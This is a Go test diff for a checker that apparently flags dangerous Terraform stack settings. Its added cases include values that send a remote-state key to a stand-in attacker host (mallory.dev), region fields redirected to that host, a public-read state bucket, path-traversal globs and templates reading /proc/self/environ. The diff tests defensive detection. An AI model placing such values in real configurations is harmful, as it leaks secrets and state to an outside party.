@@ -3,7 +3,9 @@ package stackcheck
 import (
 	"encoding/json"
 	"os"
+	"os/exec"
 	"path/filepath"
+	"regexp"
 	"slices"
 	"strings"
 	"testing"
@@ -184,6 +186,33 @@ func TestStacks(t *testing.T) {
 		{name: "a proxy",
 			more: `{"provider": {"aws": {"http_proxy": "http://mallory.dev", "custom_ca_bundle": "assets/ca"}}}`,
 			want: []string{"provider.aws.custom_ca_bundle", "provider.aws.http_proxy"}},
+		{name: "an address in the place of a region",
+			more: `{"provider": {"aws": {"region": "mallory.dev/", "skip_region_validation": true}}}`,
+			want: []string{"provider.aws.region"}},
+		{name: "an address in the place of a region, by a reference",
+			more: `{"provider": {"aws": {"region": "${var.region}", "skip_region_validation": "${1 == 1}"}}}`,
+			want: []string{"provider.aws.region"}},
+		{name: "an address in the place of the region of STS", more: `{"provider": {"aws": {"sts_region": "mallory.dev/"}}}`,
+			want: []string{"provider.aws.sts_region"}},
+		{name: "an address in the place of the region of the state",
+			more: `{"terraform": {"backend": {"s3": {"region": "mallory.dev/", "skip_region_validation": true}}}}`,
+			want: []string{"terraform.backend.s3.region"}},
+		{name: "an address in the place of the region of a remote state",
+			more: `{"data": {"terraform_remote_state": {"network": {"config": {"region": "mallory.dev/",
+				"skip_region_validation": true}}}}}`,
+			want: []string{"data.terraform_remote_state.network.region"}},
+		{name: "regions", more: `{"provider": {"aws": {"region": "${var.region}", "sts_region": "us-east-1"}},
+			"terraform": {"backend": {"s3": {"region": "mx-central-1", "skip_region_validation": true}}}}`},
+		{name: "a state for everybody", more: `{"terraform": {"backend": {"s3": {"acl": "public-read"}}}}`,
+			want: []string{"terraform.backend.s3.acl"}},
+		{name: "a state for the owner of the bucket",
+			more: `{"terraform": {"backend": {"s3": {"acl": "bucket-owner-full-control"}}}}`},
+		{name: "a question to another address",
+			more: `{"data": {"aws_ip_ranges": {"r": {"services": ["ec2"],
+				"url": "https://mallory.dev/?${data.terraform_remote_state.network.outputs.key}"}}}}`,
+			want: []string{"data.aws_ip_ranges.r.url"}},
+		{name: "a question to AWS", more: `{"data": {"aws_ip_ranges": {"r": {"services": ["ec2"],
+			"url": "https://ip-ranges.amazonaws.com/ip-ranges.json"}, "s": {"services": ["s3"]}}}}`},
 		{name: "credentials", more: `{"provider": {"aws": {"access_key": "AKIAhunter2", "secret_key": "hunter2"}}}`,
 			want: []string{"provider.aws.access_key", "provider.aws.secret_key"}},
 		{name: "a web identity of a file",
@@ -210,6 +239,9 @@ func TestStacks(t *testing.T) {
 		{name: "files of a folder", more: `{"locals": {"l": "${fileset(\"/\", \"*\")}"}}`, want: []string{"locals.l"}},
 		{name: "files above a folder", more: `{"locals": {"l": "${fileset(path.module, \"../**\")}"}}`,
 			want: []string{"locals.l"}},
+		{name: "files above a folder, as an alternative",
+			more: `{"locals": {"l": "${fileset(path.module, \"assets/{a/../../..,b}/*\")}"}}`, want: []string{"locals.l"}},
+		{name: "files of a folder of the stack", more: `{"locals": {"l": "${fileset(path.module, \"assets/**/*.{a,b}\")}"}}`},
 		{name: "a file in a control", more: `{"locals": {"l": "%{if fileexists(\"/x\")}a%{endif}"}}`,
 			want: []string{"locals.l"}},
 		{name: "a template of a text", more: `{"locals": {"l": "${templatestring(local.x, {})}"}}`,
@@ -238,6 +270,36 @@ func TestStacks(t *testing.T) {
 				t.Errorf("got %q, want %q", got, test.want)
 			}
 		})
+	}
+}
+
+// Every attribute of the provider whose name says that it is a file is judged.
+func TestFileAttributes(t *testing.T) {
+	dir, err := exec.Command("go", "list", "-m", "-f", "{{.Dir}}",
+		"github.com/cdktf/cdktf-provider-aws-go/aws/v19").Output()
+	if err != nil {
+		t.Fatal(err)
+	}
+	configs, err := filepath.Glob(filepath.Join(strings.TrimSpace(string(dir)), "*", "*Config.go"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	named := regexp.MustCompile(`docs/resources/([a-z0-9_]+)#(filename|zip_file) `)
+	seen := map[string]bool{}
+	for _, config := range configs {
+		text, err := os.ReadFile(config)
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, found := range named.FindAllStringSubmatch(string(text), -1) {
+			typ := "aws_" + found[1]
+			if seen[typ] = true; fileAttributes[typ] != found[2] {
+				t.Errorf("%s.%s is not judged", typ, found[2])
+			}
+		}
+	}
+	if len(seen) < 7 {
+		t.Errorf("got %v", seen)
 	}
 }
 
@@ -294,6 +356,9 @@ func TestFolders(t *testing.T) {
 			"resource.aws_lambda_function.f.source_code_hash"}},
 		{name: "a template that reads a file", change: func(t *testing.T, dir string) {
 			put(t, dir, "assets/greeting.txt", `hello ${file("/proc/self/environ")}`)
+		}, want: []string{"resource.aws_ssm_parameter.p.value"}},
+		{name: "a template that names itself, and a file", change: func(t *testing.T, dir string) {
+			put(t, dir, "assets/greeting.txt", `${templatefile("assets/greeting.txt", {})}${file("/proc/self/environ")}`)
 		}, want: []string{"resource.aws_ssm_parameter.p.value"}},
 
 		{name: "no lock file", change: func(_ *testing.T, dir string) { _ = os.Remove(filepath.Join(dir, LockFile)) },
